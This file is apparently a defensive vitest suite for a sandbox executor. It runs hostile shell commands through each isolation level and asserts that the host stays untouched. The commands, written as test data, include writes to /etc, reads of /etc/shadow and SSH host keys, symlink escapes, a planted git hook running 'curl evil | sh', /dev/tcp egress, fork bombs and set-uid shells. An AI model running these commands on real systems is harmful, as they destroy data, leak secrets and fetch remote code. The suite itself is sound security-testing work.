/**
 * The attack suite: hostile commands run through every isolation level available here, and each
 * case checks the HOST afterwards. A level is only tested for what it promises (isolation.ts says
 * which); a case it does not promise is skipped with the reason in its name, and a level missing
 * on this machine is skipped with the probe's reason.
 */
import crypto from "node:crypto";
import fs from "node:fs";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { spawn, spawnSync } from "node:child_process";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { detectIsolation } from "../../src/sandbox/detect.js";
import { createSandbox, type ConfiguredSandbox } from "../../src/sandbox/executor.js";
import { LEVELS, type IsolationLevel } from "../../src/sandbox/isolation.js";
import { noneNamespacePrefix } from "../../src/sandbox/none-pidns.js";
import type { ExecRequest, ExecResult } from "../../src/sandbox/port.js";
import { classifyError } from "../../src/sandbox/error-class.js";
import { findProcesses } from "../helpers/processes.js";

const report = detectIsolation();
const isRoot = process.getuid?.() === 0;
const cg = report.cgroups.parents;

type Promise_ = "fs" | "protected" | "network" | "caps" | "pidns" | "userns";
/** What each level promises (see src/sandbox/isolation.ts). */
const PROMISES: Record<IsolationLevel, Set<Promise_>> = {
  bwrap: new Set(["fs", "protected", "network", "caps", "pidns", "userns"]),
  unshare: new Set(["fs", "protected", "network", "caps", "pidns"]),
  // As root, level none gives each command its own PID namespace (none-pidns.ts).
  none: new Set(noneNamespacePrefix("/bin/sh").prefix ? ["pidns"] : []),
};
const WHY_NOT: Record<Promise_, string> = {
  fs: "host filesystem is not confined at this level",
  protected: "protected workspace paths are not read-only at this level",
  network: "network is not cut at this level",
  caps: "commands keep the runner's privileges at this level",
  pidns: "no PID namespace at this level",
  userns: "nested user namespaces are not disabled at this level",
};

/** Unique string for this run, used in file names and process titles. */
const RUN = `llatk${crypto.randomBytes(4).toString("hex")}`;

let area: string; // holds the workspace and a sibling directory, under the host's /tmp
let ws: string;
let sibling: string;
/** Host paths a case might create outside the workspace; removed after each case whatever happened. */
let hostPaths: string[] = [];

beforeEach(() => {
  area = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "ll-attack-")));
  ws = path.join(area, "ws");
  sibling = path.join(area, "sibling");
  fs.mkdirSync(ws);
  fs.mkdirSync(sibling);
  fs.writeFileSync(path.join(sibling, "keep.txt"), "original\n");
  hostPaths = [];
});

afterEach(() => {
  for (const p of hostPaths) fs.rmSync(p, { recursive: true, force: true });
  fs.rmSync(area, { recursive: true, force: true });
  killMarked();
});

/**
 * Whether an argument names one of this run's processes: a process title (`exec -a`) or a command
 * line carrying the marker. A bare path that mentions it does not: any other runner's sandbox on
 * this machine masks the host sockets this suite creates (`/run/<marker>.sock`) by path, and its
 * processes (another test's demo) are not this suite's to kill.
 */
const namesOurs = (arg: string) => arg.includes(RUN) && !/^\/\S*$/.test(arg);

/** Pids of processes whose command line carries this run's marker. */
function marked(): number[] {
  return findProcesses((p) => p.argv.some(namesOurs));
}

function killMarked(): void {
  for (const pid of marked()) {
    try {
      process.kill(pid, "SIGKILL");
    } catch {
      // gone
    }
  }
}

async function waitUnmarked(ms = 3000): Promise<number[]> {
  const until = Date.now() + ms;
  let left = marked();
  while (left.length && Date.now() < until) {
    await new Promise((r) => setTimeout(r, 50));
    left = marked();
  }
  return left;
}

function snapshot(p: string): string | null {
  try {
    const st = fs.lstatSync(p);
    const body = st.isFile() ? crypto.createHash("sha256").update(fs.readFileSync(p)).digest("hex") : "";
    return `${st.mode}:${st.size}:${st.mtimeMs}:${st.nlink}:${body}`;
  } catch {
    return null;
  }
}

const available = LEVELS.filter((l) => report.levels[l].ok);

it("the leftover check finds this suite's processes by title or command line, not another process that only names one of its paths", async () => {
  // Every "does not survive" case below passes only if this finds what it should.
  const titled = spawn("bash", ["-c", `exec -a ${RUN}-probe sleep 30`], { stdio: "ignore" });
  const scripted = spawn("bash", ["-c", `: ${RUN}; sleep 30; true`], { stdio: "ignore" });
  // As another runner's bwrap masks a socket this suite made: the marker only in a path argument.
  const other = spawn("bash", ["-c", "sleep 30; true", "x", "--ro-bind", "/dev/null", `/run/${RUN}.sock`], { stdio: "ignore" });
  try {
    await new Promise((r) => setTimeout(r, 300));
    const found = marked();
    expect(found).toEqual(expect.arrayContaining([titled.pid, scripted.pid]));
    expect(found).not.toContain(other.pid);
  } finally {
    for (const c of [titled, scripted, other]) c.kill("SIGKILL");
  }
});

describe.each(LEVELS)("level %s", (level) => {
  const probe = report.levels[level];
  const title = probe.ok ? "available" : `SKIPPED: ${probe.detail}`;
  describe.skipIf(!probe.ok)(title, () => {
    let sb: ConfiguredSandbox;
    beforeAll(() => {
      sb = createSandbox({ level });
    });
    const run = (command: string, extra: Partial<ExecRequest> = {}): Promise<ExecResult> =>
      sb.exec({ command, cwd: ws, workspace: ws, timeoutMs: 20_000, ...extra });
    const promises = PROMISES[level];
    /** A case for a promise: skipped, with the reason in its name, where the level does not make it. */
    const when = (p: Promise_, name: string, fn: () => Promise<void>, timeout?: number) =>
      promises.has(p) ? it(name, fn, timeout) : it.skip(`${name} — not promised: ${WHY_NOT[p]}`, fn);

    it("reports its level on every result", async () => {
      const r = await run("true");
      expect(r.isolation).toBe(level);
      expect(sb.level).toBe(level);
    });

    describe("filesystem", () => {
      when("fs", "path traversal: writes above the workspace leave the host unchanged", async () => {
        const target = path.join(area, `${RUN}-up.txt`);
        hostPaths.push(target);
        const r = await run(`echo evil > ../${RUN}-up.txt; echo evil > ../../${RUN}-up2.txt; cd .. && echo evil > ${RUN}-up3.txt; echo done`);
        hostPaths.push(path.join(os.tmpdir(), `${RUN}-up2.txt`));
        expect(r.stdout).toContain("done");
        expect(fs.existsSync(target)).toBe(false);
        expect(fs.existsSync(path.join(os.tmpdir(), `${RUN}-up2.txt`))).toBe(false);
        expect(fs.existsSync(path.join(area, `${RUN}-up3.txt`))).toBe(false);
      });

      when("fs", "writes to /, /etc, the runner's home and /var/tmp are refused", async () => {
        const targets = ["/", "/etc", os.homedir(), "/var/tmp"].map((d) => path.join(d, `${RUN}-evil`));
        hostPaths.push(...targets);
        const r = await run(targets.map((t) => `echo evil > ${t}`).join("; ") + "; touch /etc/passwd; echo done");
        expect(r.stdout).toContain("done");
        for (const t of targets) expect(fs.existsSync(t), t).toBe(false);
        expect(r.stderr).toMatch(/Read-only file system|Permission denied/);
      });

      when("fs", "the host's password, sudo and SSH host key files read as empty (even as uid 0 with a root-owned workspace)", async () => {
        const files = ["/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssh/ssh_host_ed25519_key"].filter((f) => fs.existsSync(f));
        if (!files.length) return; // nothing to protect on this host
        const r = await run(files.map((f) => `echo "${"$"}(wc -c < ${f} 2>/dev/null || echo denied) ${f}"`).join("; "));
        for (const f of files) expect(r.stdout, r.stderr).toMatch(new RegExp(`^(0|denied) ${f.replace(/\//g, "\\/")}$`, "m"));
        // The host's copies are untouched and still readable by the runner.
        if (process.getuid?.() === 0) expect(fs.statSync("/etc/shadow").size).toBeGreaterThan(0);
      });

      when("fs", "a sibling directory of the workspace is neither changed nor deleted", async () => {
        const before = snapshot(path.join(sibling, "keep.txt"));
        await run(`echo evil > ${sibling}/keep.txt; echo new > ${sibling}/new.txt; rm -rf ${sibling}`);
        expect(snapshot(path.join(sibling, "keep.txt"))).toBe(before);
        expect(fs.existsSync(path.join(sibling, "new.txt"))).toBe(false);
      });

      when("fs", "symlink escape: writing through a link to /etc or to a sibling changes nothing", async () => {
        hostPaths.push(path.join("/etc", `${RUN}-link`));
        const before = snapshot(path.join(sibling, "keep.txt"));
        const r = await run(`ln -s /etc x && echo evil > x/${RUN}-link; ln -s ${sibling} s && echo evil > s/keep.txt; echo done`);
        expect(r.stdout).toContain("done");
        expect(fs.existsSync(path.join("/etc", `${RUN}-link`))).toBe(false);
        expect(snapshot(path.join(sibling, "keep.txt"))).toBe(before);
      });

      when("fs", "symlink planted in the workspace before the command leads nowhere writable", async () => {
        fs.symlinkSync(path.join(sibling, "keep.txt"), path.join(ws, "planted"));
        const before = snapshot(path.join(sibling, "keep.txt"));
        await run("echo evil > planted; echo evil >> planted");
        expect(snapshot(path.join(sibling, "keep.txt"))).toBe(before);
      });

      when("fs", "hardlink escape: a link to a host file cannot be made, so the file is unchanged", async () => {
        // The target lives outside /tmp (which is private in the sandbox) on the same filesystem.
        const dir = fs.mkdtempSync(path.join("/var/tmp", `${RUN}-`));
        hostPaths.push(dir);
        const target = path.join(dir, "target.txt");
        fs.writeFileSync(target, "original\n");
        const before = snapshot(target);
        const passwd = snapshot("/etc/passwd");
        const r = await run(`ln ${target} h && echo evil >> h; ln /etc/passwd p && echo LINKED; echo done`);
        expect(r.stdout).toContain("done");
        expect(r.stdout).not.toContain("LINKED");
        expect(snapshot(target)).toBe(before);
        expect(fs.readFileSync(target, "utf8")).toBe("original\n");
        expect(snapshot("/etc/passwd")).toBe(passwd);
      });

      when("fs", "/tmp and /dev/shm are private: files written there do not reach the host", async () => {
        const names = [path.join("/tmp", `${RUN}-tmp`), path.join("/dev/shm", `${RUN}-shm`)];
        hostPaths.push(...names);
        const r = await run(names.map((n) => `echo inside > ${n} && cat ${n}`).join("; "));
        expect(r.stdout).toBe("inside\ninside\n");
        for (const n of names) expect(fs.existsSync(n), n).toBe(false);
      });

      when("fs", "host unix sockets (in /run and elsewhere) cannot be reached", async () => {
        // /run is root's; a non-root runner tests the other place only.
        const socks = [...(isRoot ? [path.join("/run", `${RUN}.sock`)] : []), path.join("/var/tmp", `${RUN}.sock`)];
        let connections = 0;
        const servers = await Promise.all(
          socks.map(
            (p) =>
              new Promise<net.Server>((resolve, reject) => {
                const srv = net.createServer((c) => {
                  connections++;
                  c.on("error", () => {});
                  c.end("root daemon\n");
                });
                srv.once("error", reject);
                srv.listen(p, () => resolve(srv));
              }),
          ),
        );
        hostPaths.push(...socks);
        try {
          const r = await run(
            socks
              .map((p) => `node -e "require('net').connect('${p}').on('connect',()=>console.log('CONNECTED')).on('error',e=>console.log(e.code))"`)
              .join("; "),
          );
          expect(r.stdout).not.toContain("CONNECTED");
          expect(connections).toBe(0);
        } finally {
          await Promise.all(servers.map((srv) => new Promise((res) => srv.close(res))));
        }
      });

      it("writes inside the workspace work (the sandbox is usable)", async () => {
        const r = await run("mkdir -p src && echo ok > src/a.txt && cat src/a.txt");
        expect(r).toMatchObject({ exitCode: 0, stdout: "ok\n" });
        expect(fs.readFileSync(path.join(ws, "src/a.txt"), "utf8")).toBe("ok\n");
      });
    });

    describe("protected workspace paths", () => {
      beforeEach(() => {
        fs.mkdirSync(path.join(ws, ".git/hooks"), { recursive: true });
        fs.writeFileSync(path.join(ws, ".git/config"), "[core]\n\tbare = false\n");
        fs.writeFileSync(path.join(ws, ".git/hooks/pre-commit.sample"), "#!/bin/sh\n");
        fs.mkdirSync(path.join(ws, ".ledgerloop"));
        fs.writeFileSync(path.join(ws, ".ledgerloop/state.db"), "state");
      });

      when("protected", ".git/hooks, .git/config and .ledgerloop/ cannot be written, replaced or removed", async () => {
        const files = [".git/config", ".git/hooks/pre-commit.sample", ".ledgerloop/state.db"].map((f) => path.join(ws, f));
        const before = files.map(snapshot);
        await run(
          [
            "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit",
            "chmod +x .git/hooks/pre-commit",
            "echo '[core]\\n\\thooksPath = /tmp/h' >> .git/config",
            "echo x > .ledgerloop/state.db",
            "echo x > .ledgerloop/new",
            "rm -rf .git/hooks .ledgerloop",
            "mv .git/config .git/config.old",
            "mv .git/hooks .git/hooks.old",
            "git config core.hooksPath /tmp/h",
          ].join("; "),
        );
        expect(files.map(snapshot)).toEqual(before);
        expect(fs.existsSync(path.join(ws, ".git/hooks/pre-commit"))).toBe(false);
        expect(fs.existsSync(path.join(ws, ".ledgerloop/new"))).toBe(false);
        expect(fs.existsSync(path.join(ws, ".git/config.old"))).toBe(false);
      });

      when("protected", "a repository without a hooks directory cannot get one", async () => {
        fs.rmSync(path.join(ws, ".git/hooks"), { recursive: true });
        await run("mkdir -p .git/hooks; printf '#!/bin/sh\\n' > .git/hooks/post-checkout");
        expect(fs.existsSync(path.join(ws, ".git/hooks/post-checkout"))).toBe(false);
      });

      when("protected", "all of .git is read-only (git writes are the git_commit tool's, on the host)", async () => {
        const r = await run("echo data > .git/objects-test; cat .git/objects-test");
        expect(r.stdout).toBe("");
        expect(fs.existsSync(path.join(ws, ".git/objects-test"))).toBe(false);
      });
    });

    describe("network", () => {
      let server: net.Server;
      let port: number;
      let connections: number;
      beforeEach(async () => {
        connections = 0;
        server = net.createServer((s) => {
          connections++;
          s.on("error", () => {}); // the sandboxed client may reset the connection
          s.end("hello\n");
        });
        await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
        port = (server.address() as net.AddressInfo).port;
      });
      afterEach(async () => {
        await new Promise((r) => server.close(r));
      });
      const egress = () =>
        `(exec 3<>/dev/tcp/127.0.0.1/${port} && echo CONNECTED) 2>&1; ` +
        `node -e "require('net').connect(${port},'127.0.0.1').on('connect',()=>{console.log('NODE CONNECTED');process.exit(0)}).on('error',e=>{console.log(e.code);process.exit(0)})"`;

      when("network", "egress to a listener on the host's 127.0.0.1 sees 0 connections", async () => {
        const r = await run(egress());
        expect(r.stdout).not.toContain("CONNECTED");
        await new Promise((res) => setTimeout(res, 100));
        expect(connections).toBe(0);
      });

      when("network", "loopback works inside: a test can listen on 127.0.0.1 and connect to itself", async () => {
        const r = await run(
          `node -e "const n=require('net');const s=n.createServer(c=>c.end('pong')).listen(0,'127.0.0.1',()=>{n.connect(s.address().port,'127.0.0.1').on('data',d=>{console.log(String(d));process.exit(0)})})"`,
        );
        expect(r.stdout).toBe("pong\n");
      });

      when("network", "allowNetwork lets a command reach the host listener", async () => {
        const r = await run(egress(), { allowNetwork: true });
        expect(r.stdout).toContain("CONNECTED");
        expect(connections).toBeGreaterThan(0);
      });

      if (!promises.has("network")) {
        it(`does NOT stop egress (documented), and says so: sandbox "${level}" on the result`, async () => {
          const r = await run(egress());
          expect(r.isolation).toBe(level);
          expect(connections).toBeGreaterThan(0);
        });
      }
    });

    describe("limits", () => {
      it.skipIf(!cg.pids && isRoot)(
        `fork bomb is bounded by the pids limit and ended by the timeout; host fine${!cg.pids && isRoot ? " — SKIPPED: no pids cgroup and root runner" : ""}`,
        async () => {
          // The leader stays (sleep) so the bomb runs until the wall clock ends it. (No wall-clock
          // assertion: timedOut says the timeout ended it, however loaded the machine.)
          const r = await run(`: ${RUN}; b(){ b | b & }; b; sleep 60`, { timeoutMs: 3000, limits: { pids: 64 } });
          expect(r.limit).toBe("pids");
          expect(r.timedOut).toBe(true);
          expect(await waitUnmarked()).toEqual([]);
          // The classic form usually returns at once and leaves the bomb behind, which is then killed
          // with the tree; if the shell's own fork is refused it retries until the wall clock ends it.
          const classic = await run(`: ${RUN}; :(){ :|:& };:`, { timeoutMs: 3000, limits: { pids: 64 } });
          // Ended by the pids limit or the 3 s timeout, not by the bomb's own 60 s sleep.
          expect(classic.durationMs).toBeLessThan(60_000);
          if (classic.timedOut) expect(classic.limit).toBe("pids");
          expect(await waitUnmarked()).toEqual([]);
          // The runner can still start processes.
          expect(spawnSync("true").status).toBe(0);
        },
        120_000,
      );

      it.skipIf(!cg.memory)(`memory hog is OOM-killed at the memory limit${cg.memory ? "" : " — SKIPPED: no memory cgroup"}`, async () => {
        const r = await run(`node -e "const a=[];for(;;)a.push(Buffer.alloc(16<<20,1))"`, { limits: { memoryBytes: 128 * 1024 ** 2 } });
        expect(r.limit).toBe("memory");
        expect(r.exitCode === 0 && r.signal === null).toBe(false);
      });

      it("a CPU spin is stopped by the cpu limit", async () => {
        // The limit kind says what stopped it; wall time would only measure how busy the machine is.
        const r = await run("while :; do :; done", { limits: { cpuSeconds: 1 }, timeoutMs: 120_000 });
        expect(r.limit).toBe("cpu");
        expect(r.timedOut).toBe(false);
        if (r.usage?.cpuMs != null) expect(r.usage.cpuMs).toBeLessThan(3_000);
      }, 150_000);

      it.skipIf(!cg.cpuacct)(
        `CPU spread over processes counts as one budget${cg.cpuacct ? "" : " — SKIPPED: no cpuacct cgroup"}`,
        async () => {
          const r = await run("for i in 1 2 3; do (while :; do :; done) & done; wait", { limits: { cpuSeconds: 2 }, timeoutMs: 120_000 });
          expect(r.limit).toBe("cpu");
          expect(r.timedOut).toBe(false);
          // CPU time, measured by the cgroup: per-process RLIMIT_CPU alone would let the three use 2 s
          // each (6 s); one budget stops them near 2 s (plus a polling interval on two cores).
          expect(r.usage?.cpuMs).toBeGreaterThanOrEqual(1_900);
          expect(r.usage?.cpuMs).toBeLessThan(4_000);
        },
        150_000,
      );

      const cgEvidence = Boolean(cg.memory && cg.cpuacct);
      it.skipIf(!cgEvidence)(
        `a SIGKILL that no limit sent is not reported as a resource limit${cgEvidence ? "" : " — SKIPPED: no memory and cpuacct cgroups to rule the limits out"}`,
        async () => {
          const r = await run("echo before; kill -9 $$; echo after");
          expect(r.stdout).toBe("before\n");
          expect(r.signal === "SIGKILL" || r.exitCode === 137).toBe(true);
          expect(r.limit).toBeNull();
          expect(r.limitsRuledOut).toBe(true);
          expect(r.stderr).toMatch(
            /no limit of the sandbox stopped this command \(its cgroups counted no OOM kill and [\d.]+ s of CPU\); the SIGKILL came from outside it/,
          );
          expect(
            classifyError({
              exitCode: r.exitCode,
              signal: r.signal,
              stdout: r.stdout,
              stderr: r.stderr,
              limit: r.limit ?? null,
              limitsRuledOut: r.limitsRuledOut,
            }),
          ).toBe("unknown");
          // The OOM killer's SIGKILL still reads as the memory limit (a memory cgroup exists: see the skip).
          const hog = await run(`node -e "const a=[];for(;;)a.push(Buffer.alloc(16<<20,1))"`, { limits: { memoryBytes: 128 * 1024 ** 2 } });
          expect(hog.limit).toBe("memory");
          expect(hog.limitsRuledOut).toBeUndefined();
        },
      );

      it("an output flood is stopped at the output budget, keeping head and tail", async () => {
        const r = await run("yes flood", { limits: { outputBytes: 4 * 1024 ** 2 }, timeoutMs: 120_000 });
        expect(r.limit).toBe("output");
        expect(r.timedOut).toBe(false);
        expect(r.truncated).toBe(true);
        expect(r.stdout.length).toBeLessThan(64 * 1024);
      }, 150_000);

      it("a big file is stopped at the file size limit", async () => {
        const r = await run("head -c 3000000 /dev/zero > big.bin", { limits: { fileSizeBytes: 1024 * 1024 } });
        expect(r.limit).toBe("file_size");
        expect(fs.statSync(path.join(ws, "big.bin")).size).toBeLessThanOrEqual(1024 * 1024);
      });

      it("a background process does not survive the timeout", async () => {
        const r = await run(`bash -c 'exec -a ${RUN}-bg sleep 300' & bash -c 'trap "" TERM; exec -a ${RUN}-bg2 sleep 300' & sleep 300`, { timeoutMs: 500 });
        expect(r.timedOut).toBe(true);
        expect(r.limit).toBe("timeout");
        expect(await waitUnmarked()).toEqual([]);
      });

      it("a setsid/double-forked daemon does not survive the timeout", async () => {
        const r = await run(
          `(setsid bash -c 'exec -a ${RUN}-daemon sleep 300' &); nohup bash -c 'exec -a ${RUN}-nohup sleep 300' >/dev/null 2>&1 & sleep 300`,
          {
            timeoutMs: 500,
          },
        );
        expect(r.timedOut).toBe(true);
        expect(await waitUnmarked()).toEqual([]);
      });

      it("a setsid daemon does not outlive a command that exits normally", async () => {
        const r = await run(`(setsid bash -c 'exec -a ${RUN}-after sleep 300' &); echo started`);
        expect(r.stdout).toBe("started\n");
        // Returned without waiting for the daemon's 300 s sleep (the timeout would say so).
        expect(r.timedOut).toBe(false);
        expect(await waitUnmarked()).toEqual([]);
      });
    });

    describe("environment", () => {
      const secrets = {
        FAKE_TOKEN: `tok-${RUN}-aaaaaaaa`,
        OPENAI_API_KEY: `sk-${RUN}abcdefghijklmnopqrstuvwxyz`,
        INNOCENT_NAME: `innocent-${RUN}`,
      };
      const saved: Record<string, string | undefined> = {};
      beforeAll(() => {
        for (const [k, v] of Object.entries(secrets)) {
          saved[k] = process.env[k];
          process.env[k] = v;
        }
      });
      afterAll(() => {
        for (const [k, v] of Object.entries(saved)) {
          if (v === undefined) delete process.env[k];
          else process.env[k] = v;
        }
      });

      it("printenv shows no secret and no variable outside the allow-list", async () => {
        const r = await run("printenv");
        expect(r.stdout).toContain("PATH=");
        for (const v of Object.values(secrets)) expect(r.stdout).not.toContain(v);
      });

      when("pidns", "the runner's environment cannot be read through /proc", async () => {
        const r = await run("cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'");
        for (const v of Object.values(secrets)) expect(r.stdout).not.toContain(v);
        expect(r.stdout).not.toContain(String(process.pid));
      });
    });

    describe("privileges", () => {
      when("caps", "mknod of devices is refused", async () => {
        const r = await run("mknod null c 1 3; mknod disk b 8 0; ls -l");
        expect(r.stderr).toMatch(/Operation not permitted/);
        expect(fs.existsSync(path.join(ws, "null"))).toBe(false);
        expect(fs.existsSync(path.join(ws, "disk"))).toBe(false);
      });

      when("caps", "a set-uid copy of a shell gives the next command no privileges", async () => {
        await run("cp /bin/sh x; chmod u+s x; chmod g+s x");
        const next = await run("./x -p -c 'grep -E \"^(CapEff|NoNewPrivs)\" /proc/self/status'");
        expect(next.stdout).toMatch(/CapEff:\s+0+\n/);
        expect(next.stdout).toMatch(/NoNewPrivs:\s+1/);
        // And nothing set-uid is left on the host (seccomp refuses the chmod, or it is cleared after).
        if (level === "bwrap" || process.getuid?.() === 0) expect(fs.statSync(path.join(ws, "x")).mode & 0o6000).toBe(0);
      });

      it.skipIf(process.getuid?.() !== 0)(
        "a set-uid/set-gid file a command makes as root is not left so on the host (skipped unless the runner is root: only root's are a risk)",
        async () => {
          fs.writeFileSync(path.join(ws, "mine"), "x");
          fs.chmodSync(path.join(ws, "mine"), 0o4755); // the user's own, from before the command
          await new Promise((r) => setTimeout(r, 100));
          const r = await run(
            "mkdir -p node_modules/.bin; cp /bin/sh node_modules/.bin/t; chmod u+s node_modules/.bin/t; cp /bin/sh g; chmod g+s g; echo done",
          );
          expect(r.stdout).toContain("done");
          for (const f of ["node_modules/.bin/t", "g"]) expect(fs.statSync(path.join(ws, f)).mode & 0o6000, f).toBe(0);
          expect(fs.statSync(path.join(ws, "mine")).mode & 0o7777).toBe(0o4755);
          if (level !== "bwrap") expect(r.stderr).toMatch(/cleared the set-uid\/set-gid bits of (node_modules\/\.bin\/t, g|g, node_modules\/\.bin\/t)/);
        },
      );

      when("userns", "a nested user namespace cannot be created to regain capabilities", async () => {
        const r = await run("unshare -Ur id -u 2>&1; echo rc=$?");
        expect(r.stdout).not.toMatch(/^0$/m);
      });
    });
  });
});

describe("detection", () => {
  it(`chooses the strongest available level (${available.join(", ")})`, () => {
    expect(report.level).toBe(available[0]);
    expect(report.reasons.join("\n")).toContain(`chosen: ${report.level}`);
  });
});
